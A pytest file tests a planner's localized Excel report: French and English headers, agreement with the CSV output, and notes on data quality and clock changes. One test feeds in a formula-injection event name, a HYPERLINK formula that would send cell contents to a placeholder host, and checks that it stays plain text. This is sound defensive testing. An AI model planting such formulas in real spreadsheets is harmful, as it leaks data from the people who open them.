"""Tests of report.xlsx: the plan's tables as a workbook in the report's language."""

from __future__ import annotations

import csv
import os
import pickle
import subprocess
import sys
import textwrap
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from planner.decisions.plan import WeeklyPlan, plan_week
from planner.inputs import load_dataset, parse_week
from planner.reporting import write_report, xlsx
from planner.reporting.i18n import label_message, render_message, translate_value, translations
from planner.reporting.tables import (
    CAPACITY_COLUMNS,
    EVENT_COLUMNS,
    FORECAST_COLUMNS,
    QUALITY_COLUMNS,
    STAFFING_COLUMNS,
    events_table,
    quality_table,
)
from planner.reporting.xlsx import clock_change_note
from tests.conftest import BUNDLED_DATA, REPO

MACHINE_COLUMNS = {*FORECAST_COLUMNS, *EVENT_COLUMNS, *CAPACITY_COLUMNS, *STAFFING_COLUMNS, *QUALITY_COLUMNS}


@pytest.fixture(scope="module")
def dodgers_plan() -> WeeklyPlan:
    # Real data: the Dodger Stadium freeway ramp, a week with three home games learned from 72 past ones.
    dataset = load_dataset(BUNDLED_DATA / "dodgers")
    return plan_week(dataset, parse_week("2005-W38", dataset.timezone))


@pytest.fixture(scope="module")
def dodgers_sheets(dodgers_plan, tmp_path_factory) -> dict[str, dict[str, list[dict[str, object]]]]:
    """Return each workbook of the plan, French and English, as sheet name to rows keyed by header."""
    folder = tmp_path_factory.mktemp("xlsx")
    sheets = {}
    for lang in ("fr", "en"):
        path = folder / f"report-{lang}.xlsx"
        xlsx.write_xlsx(dodgers_plan, path, lang=lang)
        sheets[lang] = _read_workbook(path)
    return sheets


def _read_workbook(path) -> dict[str, list[dict[str, object]]]:
    workbook = openpyxl.load_workbook(path, read_only=True)
    sheets = {}
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        sheets[sheet.title] = [dict(zip(rows[0], row)) for row in rows[1:]]
    return sheets


def test_xlsx_french_sheet_names_and_headers(dodgers_plan, tmp_path):
    xlsx.write_xlsx(dodgers_plan, tmp_path / "report.xlsx", lang="fr")
    workbook = openpyxl.load_workbook(tmp_path / "report.xlsx", read_only=True)
    headers = [header for sheet in workbook.worksheets for header in next(sheet.iter_rows(values_only=True))]

    assert workbook.sheetnames == ["Prévision", "Événements", "Capacité", "Effectifs", "Modèle de calcul des effectifs",
                                   "Effectifs par intervalle", "Actions par événement", "Canaux voix",
                                   "Qualité des données", "Hypothèses", "Notes"]
    assert "Identifiant de l’événement" in headers
    assert "Appris sur" in headers
    assert "Objectif de niveau de service" in headers
    # Every column has a French header, and none is a machine name of the CSV files.
    assert sorted(set(headers) & MACHINE_COLUMNS) == []


def test_xlsx_french_learned_from_and_categories(dodgers_sheets):
    events = dodgers_sheets["fr"]["Événements"]
    staffing = dodgers_sheets["fr"]["Effectifs"]
    capacity = dodgers_sheets["fr"]["Capacité"]

    assert len(events) == 3
    assert {row["Appris sur"] for row in events} == {"72 événements\u00a0: dodgers-2005-04-12 ... dodgers-2005-09-14"}
    assert {row["Événements passés retenus"] for row in events} == {"même lieu"}
    assert {row["Mesure"] for row in events} == {"Voitures entrant sur l’autoroute"}
    assert {row["Rôle"] for row in staffing} == {"ingénieur de supervision", "conseiller clientèle"}
    assert {row["Action"] for row in capacity} <= {"ok", "à surveiller", "à renforcer"}
    assert "à surveiller" in {row["Action"] for row in capacity}


def test_xlsx_french_data_quality_notes(dodgers_plan, dodgers_sheets):
    quality = dodgers_sheets["fr"]["Qualité des données"]
    traffic = next(row for row in quality if row["Table"] == "trafic")
    traffic_notes = next(table.notes for table in dodgers_plan.dataset.quality.tables if table.table == "traffic")

    assert len(traffic_notes) >= 3
    assert traffic["Notes"] == "\u202f; ".join(render_message(label_message(note, dodgers_plan.dataset.settings, "fr"), "fr")
                                         for note in traffic_notes)
    assert ("Voitures entrant sur l’autoroute\u00a0: 2\u202f903 valeurs manquantes sur 50\u202f400 (champs vides)"
            in traffic["Notes"])
    assert "values missing" not in traffic["Notes"]


def test_xlsx_english_on_request(dodgers_plan, dodgers_sheets):
    sheets = dodgers_sheets["en"]
    traffic = next(row for row in sheets["Data quality"] if row["Table"] == "traffic")

    assert list(sheets) == ["Forecast", "Events", "Capacity", "Staffing", "Staffing model", "Staffing intervals",
                            "Event actions", "Voice channels", "Data quality", "Assumptions", "Notes"]
    assert {row["Learned from"] for row in sheets["Events"]} == {
        "72 events: dodgers-2005-04-12 ... dodgers-2005-09-14"}
    assert {row["Past events used"] for row in sheets["Events"]} == {"same venue"}
    assert {row["Role"] for row in sheets["Staffing"]} == {"supervision engineer", "customer care agent"}
    assert "Cars entering the freeway: 2,903 of 50,400 values missing (empty fields)" in traffic["Notes"]
    assert "valeurs manquantes" not in traffic["Notes"]


def test_xlsx_numbers_same_in_both_languages(dodgers_sheets):
    french = dodgers_sheets["fr"]["Prévision"]
    english = dodgers_sheets["en"]["Forecast"]

    assert len(french) == len(english) == 168
    assert [row["Prévision p90"] for row in french] == [row["Forecast p90"] for row in english]
    assert [row["Heure (America/Los_Angeles)"] for row in french] == [
        row["Hour (America/Los_Angeles)"] for row in english]
    assert french[0]["Heure (America/Los_Angeles)"] == datetime(2005, 9, 19, 0, 0)


def test_xlsx_rows_match_csv(make_plan, tmp_path):
    # Synthetic plan of tests/reporting/conftest.py: cell C1 gets an "add" action.
    folder = write_report(make_plan(), tmp_path, lang="en", with_pdf=False)
    workbook = openpyxl.load_workbook(folder / "report.xlsx", read_only=True)
    gettext = translations("en").gettext

    for sheet_name in ["forecast", "events", "capacity", "staffing"]:
        with (folder / f"{sheet_name}.csv").open(encoding="utf-8", newline="") as handle:
            csv_rows = list(csv.reader(handle))
        sheet_rows = [["" if value is None else value for value in row]
                      for row in workbook[xlsx.sheet_title(sheet_name, "en")].iter_rows(values_only=True)]

        headers = [gettext(xlsx.COLUMN_HEADERS[column]) for column in csv_rows[0]]
        times = {"timestamp", "start", "end"}
        assert sheet_rows[0] == [f"{header} (Europe/Paris)" if column in times else header
                                 for header, column in zip(headers, csv_rows[0])], sheet_name
        assert len(sheet_rows) == len(csv_rows), sheet_name
        # Numbers are numbers in the workbook and text in the CSV file; both give the same value.
        for sheet_row, csv_row in zip(sheet_rows[1:], csv_rows[1:]):
            for column, sheet_value, csv_value in zip(csv_rows[0], sheet_row, csv_row):
                if isinstance(sheet_value, datetime) and column in times:
                    # The local wall-clock time of the CSV file's ISO 8601 text, without its offset.
                    assert sheet_value == datetime.fromisoformat(csv_value).replace(tzinfo=None), (sheet_name, column)
                elif isinstance(sheet_value, datetime):
                    assert sheet_value.date().isoformat() == csv_value, (sheet_name, column)
                elif isinstance(sheet_value, (int, float)) and not isinstance(sheet_value, bool):
                    assert sheet_value == pytest.approx(float(csv_value)), (sheet_name, column)
                elif column == "measure":
                    assert (csv_value, sheet_value) == ("traffic", "Data traffic"), sheet_name
                elif column in {"action", "role", "shift", "kind", "pooling"}:
                    category = "event_kind" if column == "kind" else column
                    assert sheet_value == translate_value(category, csv_value, "en"), (sheet_name, column)
                else:
                    assert str(sheet_value) == csv_value, (sheet_name, column)


def test_xlsx_french_actions_from_synthetic_plan(make_plan, tmp_path):
    folder = write_report(make_plan(), tmp_path, lang="fr", with_pdf=False)
    capacity = _read_workbook(folder / "report.xlsx")["Capacité"]

    assert {row["Action"] for row in capacity} == {"à renforcer", "à surveiller", "ok"}
    assert {row["Unité supplémentaire"] for row in capacity} == {"temporary carrier"}


def test_xlsx_formula_stays_text(make_plan, tmp_path):
    name = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    folder = write_report(make_plan(event_name=name), tmp_path, lang="en", with_pdf=False)
    events = openpyxl.load_workbook(folder / "report.xlsx")["Events"]
    name_column = [cell.value for cell in events[1]].index("Event") + 1
    cell = events.cell(row=2, column=name_column)

    assert cell.value == name
    assert cell.data_type == "s"


def test_xlsx_notes_sheet_in_french(dodgers_plan, tmp_path, monkeypatch):
    # The week has 168 forecast rows, so a lower limit makes the workbook drop rows and add a note.
    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 100)
    xlsx.write_xlsx(dodgers_plan, tmp_path / "report.xlsx", lang="fr")
    notes = _read_workbook(tmp_path / "report.xlsx")["Notes"]

    # The plan's staffing note comes first, then the rows kept.
    assert notes[0]["Note"].startswith("la charge des équipes suit la mesure")
    assert [row["Note"] for row in notes][1:] == [
        "Prévision\u00a0: 0 ligne sur 168, les cellules à risque, les plus exposées d’abord\u202f; "
        "forecast.csv contient toutes les lignes",
        "Effectifs par intervalle\u00a0: 100 lignes sur 672, les premières"]


def test_xlsx_notes_sheet_lists_plan_notes(dodgers_plan, dodgers_sheets):
    # The week's one plan note, listed under Notes in the HTML report, states how the staffing workload is scaled.
    settings = dodgers_plan.dataset.settings
    french = [row["Note"] for row in dodgers_sheets["fr"]["Notes"]]
    english = [row["Note"] for row in dodgers_sheets["en"]["Notes"]]

    assert len(dodgers_plan.notes) == 1
    assert french == [render_message(label_message(note, settings, "fr"), "fr") for note in dodgers_plan.notes]
    assert english == [render_message(label_message(note, settings, "en"), "en") for note in dodgers_plan.notes]
    assert "la charge des équipes suit la mesure Voitures entrant sur l’autoroute" in french[0]
    assert "247,3 par heure" in french[0]
    assert "staffing workload is scaled by the network's Cars entering the freeway" in english[0]


def test_quality_table_renders_notes(dodgers_plan):
    english = quality_table(dodgers_plan)
    french = quality_table(dodgers_plan, render_note=lambda note: render_message(note, "fr"))

    assert list(english["table"]) == list(french["table"])
    assert "values missing" in english["notes"].iloc[0]
    assert "valeurs manquantes" in french["notes"].iloc[0]


def test_csv_same_in_both_languages(dodgers_plan, tmp_path):
    french = write_report(dodgers_plan, tmp_path / "fr", lang="fr", with_pdf=False)
    english = write_report(dodgers_plan, tmp_path / "en", lang="en", with_pdf=False)

    for name in ("forecast.csv", "events.csv", "capacity.csv", "staffing.csv"):
        assert (french / name).read_bytes() == (english / name).read_bytes(), name
    with (french / "events.csv").open(encoding="utf-8", newline="") as handle:
        events = list(csv.DictReader(handle))
    assert {row["learned_from"] for row in events} == {"72 events: dodgers-2005-04-12 ... dodgers-2005-09-14"}
    assert {row["pooling"] for row in events} == {"venue"}


@pytest.mark.parametrize(("week", "english", "french"), [
    ("2023-W12", "On Mar 26, 2023 the clocks go forward, so no row is at 02:00, the skipped hour",
     "Le 26 mars 2023, on avance l’heure\u00a0: aucune ligne n’est à 02:00, l’heure sautée"),
    ("2023-W43", "On Oct 29, 2023 the clocks go back, so the hour at 02:00 appears twice",
     "Le 29 oct. 2023, on recule l’heure\u00a0: l’heure de 02:00 apparaît deux fois"),
    ("2023-W20", "because Excel has no time zone; the CSV files",
     "car Excel n’a pas de fuseau horaire\u202f; les fichiers CSV"),
])
def test_clock_change_note_names_week_change(week, english, french):
    hours = parse_week(week, ZoneInfo("Europe/Paris")).hours()

    note = clock_change_note(hours, "Europe/Paris")

    assert english in render_message(note, "en")
    assert french in render_message(note, "fr")
    assert "heures locales du fuseau Europe/Paris" in render_message(note, "fr")


def test_xlsx_events_headers_all_labelled(dodgers_plan):
    events = events_table(dodgers_plan)
    assert "time_known" in events.columns

    for lang in ("en", "fr"):
        headers = list(xlsx.localized_sheet(dodgers_plan, events, lang).columns)

        assert sorted(set(headers) & set(events.columns)) == [], lang
    assert "Heure connue" in xlsx.localized_sheet(dodgers_plan, events, "fr").columns


# Run in a new interpreter, because "Exception ignored" is printed when the interpreter collects the generators.
INTERRUPTED_WRITE = textwrap.dedent("""
    import pickle
    import sys

    from planner.reporting import xlsx

    with open(sys.argv[1], "rb") as handle:
        plan = pickle.load(handle)
    original_cell = xlsx._cell
    calls = 0

    def interrupting_cell(*arguments):
        global calls
        calls += 1
        if calls == 20:
            raise KeyboardInterrupt
        return original_cell(*arguments)

    xlsx._cell = interrupting_cell
    try:
        xlsx.write_xlsx(plan, sys.argv[2])
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
""")


def test_xlsx_interrupt_closes_writers(make_plan, tmp_path):
    plan_path = tmp_path / "plan.pickle"
    plan_path.write_bytes(pickle.dumps(make_plan()))

    run = subprocess.run([sys.executable, "-c", INTERRUPTED_WRITE, str(plan_path), str(tmp_path / "report.xlsx")],
                         capture_output=True, text=True, cwd=REPO, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)})

    assert run.returncode == 0, run.stderr
    assert run.stderr.splitlines() == ["interrupted"]
    assert not (tmp_path / "report.xlsx").exists()
